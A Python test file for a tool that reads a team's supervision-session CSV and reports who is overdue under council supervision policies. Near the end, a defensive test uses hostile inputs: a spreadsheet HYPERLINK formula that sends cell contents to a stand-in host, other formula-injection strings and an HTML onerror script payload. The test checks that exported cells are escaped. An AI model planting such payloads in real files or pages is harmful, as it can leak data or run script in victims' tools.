"""The team check (CONTRIBUTING.md, "The team file" and `team`): scenario teams worked out by hand from the
policies, the file format's edges, and the command line's contract for every kind of bad input."""

from __future__ import annotations

import csv
import io
import json
import random
import tomllib
from datetime import date
from pathlib import Path

import pytest

from checker import api, team, team_file
from checker.cli import main
from checker.rulebook import policy_ids

POLICY_IDS = policy_ids()

TEAMS = Path(__file__).parent.parent / "scenarios" / "teams"
# Team scenarios are optional for a policy (CONTRIBUTING.md, "Adding a policy"): the policies that have them.
TEAM_POLICIES = [p for p in POLICY_IDS if (TEAMS / f"{p}.toml").exists()]


def scenario(policy: str) -> tuple[dict, bytes]:
    expect = tomllib.loads((TEAMS / f"{policy}.toml").read_text(encoding="utf-8"))
    return expect, (TEAMS / f"{policy}.csv").read_bytes()


def run(capsys, *argv, today=date(2024, 3, 10)):
    code = main([str(a) for a in argv], today=today)
    out, err = capsys.readouterr()
    return code, out, err


def write(tmp_path, text: str | bytes, name: str = "team.csv") -> Path:
    path = tmp_path / name
    if isinstance(text, str):
        path.write_text(text, encoding="utf-8", newline="")
    else:
        path.write_bytes(text)
    return path


HEADER = "name,role,start,session\n"


# ---------------------------------------------------------------------------------- scenario teams


@pytest.mark.parametrize("policy", TEAM_POLICIES)
def test_scenario_team_gives_each_person_the_status_worked_out_from_the_policy(policy):
    expect, data = scenario(policy)
    result = team.team(data, expect["policy"], expect["on"], since=expect.get("from"))
    assert result["errors"] == []
    got = {p["name"]: p for p in result["people"]}
    assert sorted(got) == sorted(p["name"] for p in expect["person"])
    for person in expect["person"]:
        for field, value in person["expect"].items():
            assert got[person["name"]][field] == value, (person["name"], field, person["why"])
        if "next_due" not in person["expect"]:
            assert got[person["name"]]["next_due"] is None or person["expect"]["status"] != "not-computable"
    summary = {**expect["summary"]}
    summary.setdefault("in_time_percent", None)
    assert {k: result["summary"][k] for k in summary} == summary


@pytest.mark.parametrize("policy", TEAM_POLICIES)
def test_rows_of_a_person_may_come_in_any_order(policy):
    expect, data = scenario(policy)
    lines = data.decode("utf-8").splitlines()
    body = lines[1:]
    random.Random(12).shuffle(body)
    shuffled = team.team("\n".join([lines[0], *body]), expect["policy"], expect["on"], since=expect.get("from"))
    original = team.team(data, expect["policy"], expect["on"], since=expect.get("from"))
    strip = lambda r: sorted(((p["name"], p["status"], p["next_due"], p["missed"], p["sessions"]) for p in r["people"]))
    assert strip(shuffled) == strip(original)


def test_most_urgent_first_overdue_then_due_soon_then_up_to_date():
    expect, data = scenario("sefton")
    people = team.team(data, "sefton", expect["on"])["people"]
    assert [p["status"] for p in people] == ["overdue", "overdue", "due-soon", "due-soon", "ok"]
    assert people[0]["next_due"] <= people[1]["next_due"]


def test_each_status_has_its_words_from_the_core():
    expect, data = scenario("bracknell-forest")
    for p in team.team(data, "bracknell-forest", expect["on"])["people"]:
        assert p["status_text"] == team.STATUS_TEXT[p["status"]]
    assert set(team.STATUS_TEXT) == {"ok", "due-soon", "overdue", "not-computable"}


def test_in_time_percent_counts_ok_and_due_soon_among_computable_people_only():
    # Bracknell Forest: 1 ok, 1 due soon, 1 overdue, 1 not computable -> 2 of 3 = 66.7
    expect, data = scenario("bracknell-forest")
    assert team.team(data, "bracknell-forest", expect["on"])["summary"]["in_time_percent"] == 66.7


def test_a_person_matches_the_one_person_checker():
    expect, data = scenario("somerset")
    for p in team.team(data, "somerset", expect["on"])["people"]:
        params = {}
        for name, value in p["query"]:
            params.setdefault(name, value)
        one = api.call("due", params)["ok"]
        assert (one["status"], one["next_due"]) == (p["status"], p["next_due"]), p["name"]
        assert dict(p["query"])["on"] == expect["on"]


# ---------------------------------------------------------------------------------- the file


def test_utf8_with_byte_order_mark_and_crlf():
    text = "\ufeffName,Role,Start,Session\r\nZoë Ålund,social-worker,2024-01-08,2024-02-01\r\n"
    result = team.team(text.encode("utf-8"), "sefton", "2024-02-10")
    assert result["errors"] == [] and result["notes"] == []
    assert result["people"][0]["name"] == "Zoë Ålund"


def test_windows_1252_is_read_with_a_note_not_rejected():
    text = "name,role,start,session\r\nZoë O’Brien,social-worker,08/01/2024,01/02/2024\r\n"
    result = team.team(text.encode("cp1252"), "sefton", "2024-02-10")
    assert result["errors"] == []
    assert result["people"][0]["name"] == "Zoë O’Brien"
    assert any("Windows-1252" in n for n in result["notes"])


def test_header_names_match_without_regard_to_case_spaces_hyphens_or_underscores():
    text = " NAME ,Role, START ,Session,New_Starter,Supervisor Changed,AGREED-every\n" \
           "Al,residential-worker,2024-01-15,2024-02-01,YES,,\n"
    result = team.team(text, "sefton", "2024-02-10")
    assert result["errors"] == []
    assert ["new-starter", "1"] in result["people"][0]["query"]
    assert result["people"][0]["next_due"] == "2024-02-15"  # 3.17: fortnightly for a new residential employee


def test_uk_day_first_and_iso_dates_are_the_same_day():
    a = team.team(HEADER + "A,social-worker,08/01/2024,01/02/2024\n", "sefton", "2024-02-10")["people"][0]
    b = team.team(HEADER + "A,social-worker,2024-01-08,2024-02-01\n", "sefton", "2024-02-10")["people"][0]
    assert a["next_due"] == b["next_due"] == "2024-03-01"
    assert team.iso_date("8/1/2024", "start") == "2024-01-08"
    assert team.iso_date("08/01/2024 00:00", "start") == "2024-01-08"


def test_several_policies_in_one_file_through_the_policy_column():
    text = "name,policy,role,start,session\nA,sefton,social-worker,2024-01-08,2024-02-01\n" \
           "B,Somerset,practitioner,2024-01-08,2024-02-01\nC,,staff,2024-01-08,\n"
    result = team.team(text, "lancashire", "2024-02-10")
    assert {p["name"]: p["policy"] for p in result["people"]} == {"A": "sefton", "B": "somerset", "C": "lancashire"}


def test_a_row_with_an_empty_session_is_a_person_with_none_yet():
    result = team.team(HEADER + "A,social-worker,2024-01-08,\n", "sefton", "2024-02-10")
    assert result["people"][0]["sessions"] == 0 and result["people"][0]["last_session"] is None
    assert result["people"][0]["next_due"] == "2024-02-08"


def test_same_name_trimmed_and_case_folded_is_one_person_and_a_repeated_session_counts_once():
    text = HEADER + "Ann Lee,social-worker,2024-01-08,2024-02-01\n  ann lee ,social-worker,,2024-02-01\n" \
                    "ANN LEE,Social worker,,2024-03-01\n"
    result = team.team(text, "sefton", "2024-03-10")
    assert len(result["people"]) == 1
    assert result["people"][0]["sessions"] == 2 and result["people"][0]["lines"] == [2, 3, 4]


def test_facts_supervisor_changed_shifts_agreed_every_and_done_columns_reach_the_case():
    text = "name,role,start,session,shifts,agreed-every,supervisor-changed,done-agreement,Done Agreement Review\n" \
           "A,agency-residential,2024-01-15,2024-02-01,15,,2024-01-20,2024-01-22,\n" \
           "B,other-employee,2024-01-15,2024-02-01,,6 weeks,,,2024-02-02\n"
    result = team.team(text, "sefton", "2024-02-10")
    assert result["errors"] == []
    people = {p["name"]: p for p in result["people"]}
    assert people["A"]["status"] == "due-soon"  # 3.18: 15 shifts of 16
    assert ["shifts", "15"] in people["A"]["query"] and ["supervisor-changed", "2024-01-20"] in people["A"]["query"]
    assert ["done", "agreement=2024-01-22"] in people["A"]["query"]
    assert ["done", "agreement-review=2024-02-02"] in people["B"]["query"]
    assert people["B"]["next_due"] == "2024-03-14"  # agreed every 6 weeks from 1 February


def test_done_columns_become_the_done_list_of_the_case(monkeypatch):
    seen = []
    real = team._case
    monkeypatch.setattr(team, "_case", lambda params: seen.append(params) or real(params))
    team.team("name,role,start,session,done-observation,done-agreement\n"
              "A,practitioner,2024-01-08,2024-02-01,2024-03-01,2024-01-10\n"
              "A,practitioner,2024-01-08,2024-03-04,2024-06-03,\n", "somerset", "2024-07-01")
    assert seen[0]["done"] == ["agreement=2024-01-10", "observation=2024-03-01", "observation=2024-06-03"]
    assert [d.isoformat() for d in seen[0]["session"]] == ["2024-02-01", "2024-03-04"]


def test_semicolon_separated_file_is_read_with_a_note():
    result = team.team("name;role;start;session\nA;social-worker;08/01/2024;01/02/2024\n", "sefton", "2024-02-10")
    assert result["errors"] == [] and len(result["people"]) == 1
    assert any("semicolons" in n for n in result["notes"])


def test_columns_not_used_are_named_in_a_note():
    result = team.team("name,role,start,session,Team,Notes\nA,social-worker,2024-01-08,,North,x\n", "sefton", "2024-02-10")
    assert "Columns not used: Notes." in result["notes"]
    assert result["people"][0]["extra"] == {"Team": "North", "Notes": "x"}  # to filter and group the table by


def test_a_file_past_the_row_limit_is_reported_at_the_first_row_not_read(monkeypatch):
    monkeypatch.setattr(team_file, "MAX_ROWS", 3)
    text = HEADER + "".join(f"P{i},social-worker,2024-01-08,\n" for i in range(5))
    result = team.team(text, "sefton", "2024-02-10")
    assert len(result["people"]) == 3
    assert result["errors"][0]["line"] == 5 and "at most 3" in result["errors"][0]["message"]


def test_twenty_thousand_rows_are_checked_with_bounded_work():
    rows = "".join(f"P{i % 800},social-worker,2023-01-09,{date.fromordinal(date(2023, 1, 10).toordinal() + i % 600)}\n"
                   for i in range(20_000))
    result = team.team(HEADER + rows, "sefton", "2024-09-01")
    assert result["errors"] == [] and result["rows"] == 20_000 and result["summary"]["people"] == 800


# ---------------------------------------------------------------------------------- bad rows


BAD_ROWS = [
    ("A,social-worker,2024-01-08,31/02/2024", "session", "not a real date"),
    ("A,social-worker,2024-01-08,2024-02-30", "session", "not a real date"),
    ("A,social-worker,2024-01-08,31/02/24", "session", "not a real date"),
    ("A,social-worker,2024-01-08,yesterday", "session", "not a date"),
    ("A,social-worker,January 2024,", "start", "not a date"),
    ("A,wizard,2024-01-08,2024-02-01", "role", "'wizard' on 1 row, line 3: choose its sefton role"),
    ("A,social-worker,2024-01-08,2023-12-01", "session", "before the start date"),
    ("A,social-worker,2024-01-08,2024-06-01", "session", "after the as-of date"),
    ("A,social-worker,1970-01-05,1970-02-01", "start", "outside the bank-holiday calendar"),
    (",social-worker,2024-01-08,2024-02-01", "name", "is empty"),
]


@pytest.mark.parametrize("row, field, words", BAD_ROWS, ids=[b[1] + ": " + b[2] for b in BAD_ROWS])
def test_a_bad_row_is_reported_by_line_and_field_and_the_rest_is_checked(capsys, tmp_path, row, field, words):
    path = write(tmp_path, HEADER + "Good One,social-worker,2024-01-08,2024-02-01\n" + row + "\n")
    code, out, err = run(capsys, "team", "--policy", "sefton", path, "--on", "2024-03-10", "--json")
    assert code == 2
    data = json.loads(out)
    assert [e["line"] for e in data["errors"]] == [3]
    assert data["errors"][0]["field"] == field and words in data["errors"][0]["message"]
    assert "Good One" in [p["name"] for p in data["people"]]
    assert err.strip().splitlines()[-1].startswith(f"error: line 3: {field}: ")
    assert "Traceback" not in err


def test_sessions_after_the_as_of_date_are_one_message_not_one_per_row():
    """An as-of date earlier than the export (or an export listing sessions booked ahead) puts many rows after
    it: the manager reads one message saying how many, which lines and the latest date, and what to change,
    and the people are still checked on their sessions before it."""
    rows = "".join(f"P{i},social-worker,2023-01-09,2024-02-{1 + i % 20:02d}\n" for i in range(30))
    rows += "".join(f"P{i},social-worker,2023-01-09,2024-07-{1 + i:02d}\n" for i in range(30))
    result = team.team(HEADER + rows, "sefton", "2024-03-10")
    assert result["errors"] == [{
        "line": 32, "field": "session", "rows": 30, "lines": [32, 61],
        "message": "30 rows, lines 32\u201361, give a session after the as-of date 10 March 2024 (the latest on "
                   "30 July 2024): these rows were not read. If the as-of date is right, they are sessions not held "
                   "yet; if not, change the as-of date"}]
    assert result["summary"]["people"] == 30


def test_a_conflicting_start_for_the_same_name_names_both_lines(capsys, tmp_path):
    path = write(tmp_path, HEADER + "Ann,social-worker,2024-01-08,2024-02-01\nAnn,social-worker,2024-01-09,2024-03-01\n")
    code, out, err = run(capsys, "team", "--policy", "sefton", path, "--on", "2024-03-10")
    assert code == 2
    assert err.strip() == ("error: line 3: start: 2024-01-09 differs from 2024-01-08 on line 2 for Ann "
                           "(one value per person)")
    assert "Ann" in out and "line 3 not read" in out


def test_a_conflicting_role_or_policy_or_fact_is_a_bad_row():
    text = "name,policy,role,start,session,new-starter\n" \
           "A,sefton,residential-worker,2024-01-15,2024-02-01,yes\nA,sefton,residential-worker,,2024-02-10,no\n" \
           "B,sefton,social-worker,2024-01-08,2024-02-01,\nB,sefton,nqsw,,2024-02-10,\n" \
           "C,sefton,social-worker,2024-01-08,2024-02-01,\nC,somerset,practitioner,,2024-02-10,\n"
    errors = team.team(text, None, "2024-03-10")["errors"]
    assert [(e["line"], e["field"]) for e in errors] == [(3, "new-starter"), (5, "role"), (7, "policy")]


@pytest.mark.parametrize("header, row, field, words", [
    ("name,role,start,session,new-starter", "A,residential-worker,2024-01-15,2024-02-01,perhaps", "new-starter", "not yes or no"),
    ("name,role,start,session,shifts", "A,agency-residential,2024-01-15,2024-02-01,lots", "shifts", "not a whole number"),
    ("name,role,start,session,policy", "A,social-worker,2024-01-08,2024-02-01,kent", "policy", "unknown policy 'kent'"),
    ("name,role,start,session,supervisor-changed", "A,social-worker,2024-01-08,,2024-13-01", "supervisor-changed", "not a real date"),
    ("name,role,start,session,agreed-every", "A,other-employee,2024-01-08,,often", "agreed-every", "not a frequency"),
    ("name,role,start,session", "A,agency-residential,2024-01-15,2024-02-01", "shifts", "number of shifts"),
    ("name,role,start,session", "A,social-worker,,2024-02-01", "start", "no start"),
    ("name,role,start,session", "A,,2024-01-08,2024-02-01", "role", "no role"),
])
def test_every_optional_column_and_missing_value_has_its_error(header, row, field, words):
    result = team.team(f"{header}\n{row}\n", "sefton", "2024-03-10")
    assert [(e["line"], e["field"]) for e in result["errors"]] == [(2, field)], result["errors"]
    assert words in result["errors"][0]["message"]
    assert result["people"] == []


def test_rows_without_any_policy_say_how_to_give_one(capsys, tmp_path):
    path = write(tmp_path, HEADER + "A,social-worker,2024-01-08,2024-02-01\n")
    code, _, err = run(capsys, "team", path, "--on", "2024-03-10")
    assert code == 2 and err.startswith("error: policy: choose the policy") and "--policy" in err
    assert len(err.splitlines()) == 1  # one file-level message, not one per row


def test_rejected_rows_count_every_bad_line_once():
    text = HEADER + "A,social-worker,2024-01-08,31/02/2024\nA,social-worker,2024-01-08,2024-02-01\nB,wizard,2024-01-08,\n"
    summary = team.team(text, "sefton", "2024-03-10")["summary"]
    assert summary["rejected_rows"] == 2 and summary["people"] == 1


# ---------------------------------------------------------------------------------- files that cannot be read


@pytest.mark.parametrize("content, field, words", [
    ("name,role,session\nA,social-worker,2024-02-01\n", "start", "required column 'start' is missing"),
    ("Alice,social-worker,2024-01-08,2024-02-01\n", "file", "not a header"),
    ("", "file", "empty"),
    (b"\x00\x01\x02binary\x00data", "file", "not text"),
    (b"PK\x03\x04" + b"\x00" * 40, "file", "damaged"),
    (b"\x81\x8d\x8f\x90\x9d", "file", "not text in UTF-8 or Windows-1252"),
    ("name,role,start,session,Start\nA,social-worker,2024-01-08,,\n", "start", "appears twice"),
], ids=["missing column", "no header", "empty", "binary", "xlsx", "not text", "duplicate column"])
def test_a_file_that_cannot_be_read_gives_one_error_line(capsys, tmp_path, content, field, words):
    path = write(tmp_path, content)
    code, out, err = run(capsys, "team", "--policy", "sefton", path, "--on", "2024-03-10")
    assert code == 2 and out == ""
    assert len(err.strip().splitlines()) == 1
    assert err.startswith(f"error: {field}: ") and words in err


def test_a_missing_file_and_a_bad_on_date_and_an_unknown_policy(capsys, tmp_path):
    code, _, err = run(capsys, "team", "--policy", "sefton", tmp_path / "nope.csv")
    assert code == 2 and err.startswith("error: file: ") and "nope.csv" in err
    path = write(tmp_path, HEADER)
    code, _, err = run(capsys, "team", "--policy", "sefton", path, "--on", "10/13/2024")
    assert code == 2 and err.startswith("error: on: ")
    code, _, err = run(capsys, "team", "--policy", "kent", path)
    assert code == 2 and err.startswith("error: policy: unknown policy 'kent'")
    code, _, err = run(capsys, "team", "--policy", "sefton", path, "--json", "--csv")
    assert code == 2 and err.startswith("error: arguments: ")


# ---------------------------------------------------------------------------------- output


def test_json_has_the_interface_shape(capsys, tmp_path):
    expect, data = scenario("sefton")
    path = write(tmp_path, data)
    code, out, err = run(capsys, "team", "--policy", "sefton", path, "--on", expect["on"], "--json")
    assert code == 0 and err == ""
    result = json.loads(out)
    assert result["on"] == expect["on"] and result["policy"] == "sefton" and result["errors"] == []
    for p in result["people"]:
        assert {"name", "policy", "role", "status", "next_due", "last_session", "sessions", "missed", "lines",
                "citations"} <= set(p)
        assert all({"policy", "section", "href"} <= set(c) for c in p["citations"])
    assert {"people", "ok", "due-soon", "overdue", "not-computable", "rejected_rows", "in_time_percent"} <= set(result["summary"])


def test_on_defaults_to_today(capsys, tmp_path):
    path = write(tmp_path, HEADER + "A,social-worker,2024-01-08,\n")
    _, out, _ = run(capsys, "team", "--policy", "sefton", path, "--json", today=date(2024, 2, 20))
    assert json.loads(out)["on"] == "2024-02-20"


def test_readable_text_names_each_person_with_status_in_words(capsys, tmp_path):
    expect, data = scenario("sefton")
    code, out, _ = run(capsys, "team", "--policy", "sefton", write(tmp_path, data), "--on", expect["on"])
    assert code == 0
    assert "5 people; 2 overdue, 2 due soon, 1 up to date" in out and "in timescale: 60.0%" in out
    assert "Overdue" in out.splitlines()[1] and "Ian Jones" in out.splitlines()[1] and "sefton 3.12" in out


HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+2", "-3+4", "@SUM(A1)", "\tTabbed",
           "\rCarriage", "<img src=x onerror=alert(1)>"]


def test_csv_output_is_formula_safe_and_one_row_per_person(capsys, tmp_path):
    rows = "".join(f'"{name}",social-worker,2024-01-08,2024-02-01\n'.replace('"=HYPERLINK("http', '"=HYPERLINK(""http')
                   .replace('?"&A1,"Click")"', '?""&A1,""Click"")"') for name in HOSTILE)
    path = write(tmp_path, HEADER + rows)
    code, out, err = run(capsys, "team", "--policy", "sefton", path, "--on", "2024-03-10", "--csv")
    assert code == 0, err
    table = list(csv.reader(io.StringIO(out)))
    assert table[0] == ["Name", "Policy", "Role", "Status", "Next due", "Last session", "Sessions", "Missed", "Paragraph",
                        "Employee no", "Days overdue", "Late", "Not held", "Counted from"]
    names = sorted(r[0] for r in table[1:])
    assert len(names) == len(HOSTILE)
    for name in HOSTILE:
        cleaned = " ".join(name.split()) if name[0] in "\t\r" else name
        want = "'" + cleaned if cleaned[0] in "=+-@\t\r" else cleaned
        assert want in names, (name, names)
    assert all(not c or c[0] not in "=+-@\t\r" for r in table[1:] for c in r)
    assert table[1][8] == "sefton 3.8; sefton 3.2"


def test_to_csv_guards_every_cell_not_only_names():
    out = team.to_csv([{"name": "ok", "policy": "=1", "role": "+r", "status": "-s", "next_due": "@d",
                        "last_session": "\tx", "sessions": 1, "missed": 0, "citations": []}])
    assert out.splitlines()[1] == "ok,'=1,'+r,'-s,'@d,'\tx,1,0,,,,,,"


# ---------------------------------------------------------------------------------- the browser's entry point


def test_api_team_takes_text_bytes_or_a_buffer_and_never_raises():
    expect, data = scenario("sefton")
    for given in (data.decode("utf-8"), data, memoryview(data)):
        out = api.call("team", {"csv": given, "policy": "sefton", "on": expect["on"]})
        assert out["ok"]["summary"]["people"] == 5
    assert api.call("team", {"csv": data, "policy": "kent", "on": "2024-03-10"})["error"]["field"] == "policy"
    assert api.call("team", {"csv": b"", "policy": "sefton", "on": "2024-03-10"})["error"]["field"] == "file"
    assert api.call("team", {"csv": data, "policy": "sefton"})["error"]["field"] == "on"


def test_api_team_csv_is_the_clis_csv():
    expect, data = scenario("somerset")
    people = api.call("team", {"csv": data, "policy": "somerset", "on": expect["on"]})["ok"]["people"]
    assert api.call("team-csv", {"people": people})["ok"]["csv"] == team.to_csv(people)


def test_template_and_worked_example_are_read_without_errors():
    files = api.call("team-files", {"on": "2024-06-10"})["ok"]
    template = team.team(files["template"], None, "2024-06-10")
    assert template["errors"] == [] and template["summary"]["people"] == 1
    example = team.team(files["example"], None, "2024-06-10")
    assert example["errors"] == []
    statuses = {p["status"] for p in example["people"]}
    assert {"ok", "due-soon", "overdue"} <= statuses  # the example shows what each status looks like
    assert [c["label"] for c in files["columns"]] == list(team.CSV_HEADER)
    assert [s["id"] for s in files["statuses"]] == list(team.STATUS_TEXT)
